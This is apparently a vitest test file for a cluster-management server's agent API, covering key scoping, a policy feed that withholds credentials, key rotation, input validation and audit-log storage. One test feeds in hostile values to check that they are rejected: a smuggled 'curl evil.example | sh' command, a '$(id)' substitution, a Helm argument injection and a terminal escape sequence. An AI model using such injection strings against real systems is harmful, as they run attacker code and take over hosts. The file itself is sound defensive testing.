import { type JsonObject, listAt, numberAt, objectAt, textAt } from '@flotilla/json';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { isEtcdRun } from '../../../test/harness/etcd/worker-etcd.ts';
import type { PolicyLine } from '../../api/agent/policy-feed.ts';
import { defaultCredentialLimits } from '../../api/credential-limits.ts';
import { apiWord } from '../../api/naming.ts';
import { readLines } from '../../lib/read-lines.ts';
import { gatewayPath, instances } from '../gateway.fixture.ts';
import { groupPath, mergePatch, ServerTestEnv } from '../server.fixture.ts';
import type { RunningServer } from '../start-server.ts';

let bench: ServerTestEnv;
let server: RunningServer;
beforeEach(async () => {
  bench = await ServerTestEnv.open();
  server = await bench.start();
});
afterEach(() => bench.close());

const at = (path: string, cluster = 'edge') => `/kubernetes/agent/${cluster}/${path}`;

async function agentKey(cluster = 'edge'): Promise<string> {
  const answer = await bench.send(server, `${groupPath}/clusters/${cluster}/accesskey`, { method: 'POST', body: {} });
  expect(answer.code, answer.text).toBe(201);
  return textAt(answer.json, 'accessKey');
}

async function connected(): Promise<string> {
  await bench.createObject(server, 'clusters', 'edge', { networkPeer: true });
  return await agentKey();
}

/** Reads the policy feed like an agent. */
class Reader {
  readonly #lines: AsyncIterator<string>;

  private constructor(lines: AsyncIterator<string>) {
    this.#lines = lines;
  }

  static async open(token: string): Promise<Reader> {
    const response = await bench.request(server, at('policy'), { token });
    expect(response.statusCode).toBe(200);
    return new Reader(readLines(response.body)[Symbol.asyncIterator]());
  }

  async next(): Promise<PolicyLine | undefined> {
    const { done, value } = await this.#lines.next();
    return done === true ? undefined : (JSON.parse(value) as PolicyLine);
  }

  /** All lines up to the first match; `undefined` if the feed ends before. */
  async until(holds: (line: PolicyLine) => boolean): Promise<PolicyLine[] | undefined> {
    const seen: PolicyLine[] = [];
    for (;;) {
      const line = await this.next();
      if (line === undefined) return undefined;
      seen.push(line);
      if (holds(line)) return seen;
    }
  }
}

const isKey = (name: string) => (line: PolicyLine) => line.type === 'KEY' && line.key.name === name;
const isNoKey = (name: string) => (line: PolicyLine) => line.type === 'NO_KEY' && line.name === name;
const isSynced = ({ type }: PolicyLine) => type === 'SYNCED';

describe('the agent API (completions §6, §7)', () => {
  it('accepts only the key of the cluster’s agent, which is valid for nothing else', async () => {
    const key = await connected();
    await bench.createObject(server, 'clusters', 'other', { networkPeer: true });
    const other = await agentKey('other');
    const codes = async (token: string) => (await bench.send(server, at('policy'), { token })).code;
    expect([await codes(other), await codes(await bench.adminKey()), await codes('')]).toEqual([403, 403, 401]);
    for (const path of [
      `${groupPath}/projects`,
      `${groupPath}/clusters`,
      `${groupPath}/clusters/edge`,
      '/kubernetes/management/apis',
      '/kubernetes/cluster/local/api/v1/namespaces',
      gatewayPath('none'),
      '/metrics',
      '/backup',
    ]) {
      expect((await bench.send(server, path, { token: key })).code, path).toBe(403);
    }
    for (const [plural, body] of [
      ['projects', { metadata: { name: 'mine' } }],
      ['ownedaccesskeys', { metadata: { name: 'mine' } }],
      ['directclusterendpointtokens', {}],
      ['selves', {}],
    ] as const) {
      const answer = await bench.send(server, `${groupPath}/${plural}`, { method: 'POST', token: key, body });
      expect(answer.code, plural).toBe(403);
    }
  });

  it('sends permissions and the objects on the cluster, but no credentials', async () => {
    const key = await connected();
    await bench.createObject(server, 'users', 'anna');
    const annas = await bench.createKey(server, 'annas', {
      user: 'anna',
      scope: { projects: [{ project: 'default' }] },
    });
    await bench.send(server, `${groupPath}/projects/default`, mergePatch({ spec: { description: 'not for agents' } }));
    const template = { helmRelease: { values: 'password: hush' } };
    const spec = { clusterRef: { cluster: 'edge' }, template };
    const made = await bench.send(server, instances, { method: 'POST', body: { metadata: { name: 'vc' }, spec } });
    expect(made.code, made.text).toBe(201);
    await bench.send(server, instances, { method: 'POST', body: { metadata: { name: 'elsewhere' }, spec: {} } });

    const feed = await Reader.open(key);
    const seen = (await feed.until(isSynced)) ?? [];
    expect(seen[0]).toEqual({
      type: 'BEGIN',
      installation: expect.any(String),
      apiPrefix: 'kubernetes',
      apiWord,
      serviceAccountTokens: true,
      maxServiceAccountTokenAge: 30 * 24 * 3600,
      limits: defaultCredentialLimits,
      time: expect.any(Number),
      ...(isEtcdRun ? { revision: expect.any(Number) } : {}),
    });
    expect(seen.find(({ type }) => type === 'SIGNING_KEYS')).toMatchObject({ keys: { keys: [{ kty: 'EC' }] } });
    const objects = seen.flatMap((line) => (line.type === 'OBJECT' ? [line] : []));
    expect(objects.map(({ kind, object }) => `${kind} ${textAt(object, 'metadata', 'name')}`)).toEqual([
      'Cluster edge',
      'Project default',
      'VirtualClusterInstance vc',
    ]);
    const known = seen.flatMap((line) => (line.type === 'KEY' ? [line.key] : []));
    expect(known.find(({ name }) => name === 'annas')).toMatchObject({
      user: { name: 'anna' },
      scopes: [{ projects: [{ project: 'default' }] }],
    });
    expect(known.some(({ user }) => user.name.includes('agent'))).toBe(false);
    const text = JSON.stringify(seen);
    for (const secret of [annas, key, await bench.adminKey(), 'hush', 'not for agents', 'keyHash']) {
      expect(text).not.toContain(secret);
    }
  });

  it('sends ended keys, disabled users and new signing keys at once', async () => {
    const key = await connected();
    await bench.createObject(server, 'users', 'anna');
    const feed = await Reader.open(key);
    await feed.until(isSynced);
    await bench.createKey(server, 'one', { user: 'anna' });
    await feed.until(isKey('one'));
    await bench.send(server, `${groupPath}/accesskeys/one`, { method: 'DELETE' });
    expect(await feed.until(isNoKey('one'))).toBeDefined();
    await bench.createKey(server, 'two', { user: 'anna' });
    await feed.until(isKey('two'));
    await bench.send(server, `${groupPath}/users/anna`, mergePatch({ spec: { disabled: true } }));
    expect(await feed.until(isNoKey('two'))).toBeDefined();
    await bench.send(server, '/auth/signing-keys', { method: 'POST' });
    const [line] = ((await feed.until(({ type }) => type === 'SIGNING_KEYS')) ?? []).slice(-1);
    expect(line?.type === 'SIGNING_KEYS' && listAt(line.keys, 'keys')).toHaveLength(2);
  });

  it('sends an instance that is added to or removed from the cluster, with its project', async () => {
    const key = await connected();
    const feed = await Reader.open(key);
    await feed.until(isSynced);
    const body = { metadata: { name: 'vc' }, spec: { clusterRef: { cluster: 'edge' } } };
    await bench.send(server, instances, { method: 'POST', body });
    const seen = await feed.until((line) => line.type === 'OBJECT' && line.kind === 'VirtualClusterInstance');
    // The feed may also contain a key whose first use has just been recorded, and the cluster with its new status.
    const kinds = (seen ?? []).flatMap((line) => (line.type === 'OBJECT' ? [line.kind] : []));
    expect(kinds.filter((kind) => kind !== 'Cluster')).toEqual(['Project', 'VirtualClusterInstance']);
    await bench.send(
      server,
      `${instances}/vc`,
      mergePatch({ metadata: { annotations: { 'platform.sh/abandon': 'true' } } }),
    );
    await bench.send(server, `${instances}/vc`, { method: 'DELETE' });
    expect(await feed.until((line) => line.type === 'NO_OBJECT' && line.kind === 'Project')).toBeDefined();
  });

  it('ends the feed with the key, and the key with its cluster', async () => {
    const key = await connected();
    const feed = await Reader.open(key);
    await feed.until(isSynced);
    const gone = await bench.send(server, `${groupPath}/clusters/edge`, { method: 'DELETE' });
    expect(gone.code, gone.text).toBe(200);
    expect(await feed.until(() => false)).toBeUndefined();
    await bench.createObject(server, 'clusters', 'edge', { networkPeer: true });
    expect((await bench.send(server, at('policy'), { token: key })).code).toBe(401);
  });

  it('accepts a newer key, and from then on no older one', async () => {
    const first = await connected();
    const second = await agentKey();
    const codes = async (token: string) =>
      (await bench.send(server, at('key-check'), { method: 'POST', token, body: { accessKey: 'nobodys' } })).code;
    expect([await codes(first), await codes(second), await codes(first)]).toEqual([404, 404, 401]);
  });

  it('returns the owner of a presented key, and nothing more', async () => {
    const key = await connected();
    await bench.createObject(server, 'users', 'anna');
    const annas = await bench.createKey(server, 'annas', { user: 'anna' });
    const ask = (accessKey: string) =>
      bench.send(server, at('key-check'), { method: 'POST', token: key, body: { accessKey } });
    const found = await ask(annas);
    expect(found.json).toMatchObject({ name: 'annas', user: { name: 'anna' }, scopes: [] });
    expect(found.text).not.toContain(annas);
    expect((await ask(`${annas}x`)).code).toBe(404);
    expect((await ask(key)).code).toBe(404);
  });

  it('stores the address of the agent, and seals its credential', async () => {
    const key = await connected();
    const body = {
      url: 'https://127.0.0.1:1',
      authority: '',
      credential: 'only-for-the-server',
      host: 'built-in',
      version: '1',
    };
    const told = await bench.send(server, at('announcement'), { method: 'PUT', token: key, body });
    expect(told.code, told.text).toBe(200);
    const cluster = await bench.send(server, `${groupPath}/clusters/edge`);
    expect(cluster.json).toMatchObject({
      spec: { networkPeer: true, directEndpoint: { host: 'https://127.0.0.1:1' } },
    });
    expect(cluster.text).not.toContain('only-for-the-server');
    await bench.send(server, at('announcement'), { method: 'PUT', token: key, body });
    const again = await bench.send(server, `${groupPath}/clusters/edge`);
    expect(objectAt(again.json, 'spec')).toEqual(objectAt(cluster.json, 'spec'));
    expect(numberAt(again.json, 'metadata', 'generation')).toBe(numberAt(cluster.json, 'metadata', 'generation'));
    const other = { ...body, credential: 'another-for-the-server' };
    await bench.send(server, at('announcement'), { method: 'PUT', token: key, body: other });
    const replaced = await bench.send(server, `${groupPath}/clusters/edge`);
    expect(textAt(replaced.json, 'metadata', 'resourceVersion')).not.toBe(
      textAt(again.json, 'metadata', 'resourceVersion'),
    );
    const later = await bench.send(server, `${groupPath}/clusters/edge`, mergePatch({ spec: { description: 'x' } }));
    expect(later.code, later.text).toBe(200);
    for (const wrong of [{ url: 'http://a' }, { url: 'https://a/b' }, { credential: '' }, { host: 'other' }]) {
      const answer = await bench.send(server, at('announcement'), {
        method: 'PUT',
        token: key,
        body: { ...body, ...wrong },
      });
      expect(answer.code, answer.text).toBe(400);
    }
  });

  it('shows no text of an agent that could act in a shell or a terminal', async () => {
    const key = await connected();
    const body = { url: 'https://127.0.0.1:1', authority: '', credential: 'c', host: 'built-in', version: '0.1.0' };
    const agentAfter = async (sent: JsonObject) => {
      const answer = await bench.send(server, at('announcement'), {
        method: 'PUT',
        token: key,
        body: { ...body, ...sent },
      });
      expect(answer.code, answer.text).toBe(200);
      const cluster = await bench.send(server, `${groupPath}/clusters/edge`);
      return listAt(cluster.json, 'status', 'agents')[0];
    };
    const release = { name: 'edge-agent', namespace: 'flotilla-agent' };
    expect(await agentAfter({ hostname: 'edge-1.example', release })).toMatchObject({
      hostname: 'edge-1.example',
      release,
    });
    for (const sent of [
      { release: { ...release, name: 'x; curl evil.example | sh' } },
      { release: { ...release, name: '--post-renderer=evil' } },
      { release: { ...release, namespace: '$(id)' } },
      { hostname: 'a\u001b]52;c;ZXZpbA==\u0007' },
    ]) {
      const shown = await agentAfter(sent);
      expect(objectAt(shown, 'release'), JSON.stringify(shown)).toBeUndefined();
      expect(textAt(shown, 'hostname')).toBe('');
    }
    const control = { ...body, url: 'https://127.0.0.1:1\n' };
    expect((await bench.send(server, at('announcement'), { method: 'PUT', token: key, body: control })).code).toBe(400);
  });

  it('rejects long bodies before it parses them, except batches', async () => {
    const key = await connected();
    const post = async (path: string, body: JsonObject) =>
      (await bench.send(server, at(path), { method: 'POST', token: key, body })).code;
    const long = 'x'.repeat(200_000);
    expect(await post('key-check', { accessKey: long })).toBe(413);
    expect(await post('activity', { used: [], ignored: long })).toBe(200);
  });

  it('stores each audit line of the agent once, also after a restart', async () => {
    const key = await connected();
    const line = (auditID: string) => ({
      level: 'Metadata',
      stage: 'ResponseComplete',
      auditID,
      verb: 'get',
      requestURI: '/x',
      sourceIPs: ['127.0.0.1'],
      userAgent: 'test',
    });
    const hand = async (first: number, ...ids: string[]) =>
      (
        await bench.send(server, at('audit'), {
          method: 'POST',
          token: key,
          body: { log: 'log-1', first, lines: ids.map(line) },
        })
      ).json;
    expect(await hand(0, 'a0', 'a1')).toEqual({ next: 2 });
    expect(await hand(0, 'a0', 'a1', 'a2')).toEqual({ next: 3 });
    await bench.stop(server);
    server = await bench.start();
    expect(await hand(1, 'a1', 'a2', 'a3')).toEqual({ next: 4 });
    const ids = (await bench.read('audit.log'))
      .split('\n')
      .flatMap((text) => (text.includes('"agent":{"cluster":"edge"') ? [textAt(JSON.parse(text), 'auditID')] : []));
    expect(ids).toEqual(['a0', 'a1', 'a2', 'a3']);
    const bad = await bench.send(server, at('audit'), {
      method: 'POST',
      token: key,
      body: { log: 'log-1', first: 4, lines: [{ level: 'Metadata' }] },
    });
    expect(bad.code).toBe(400);
  });
});
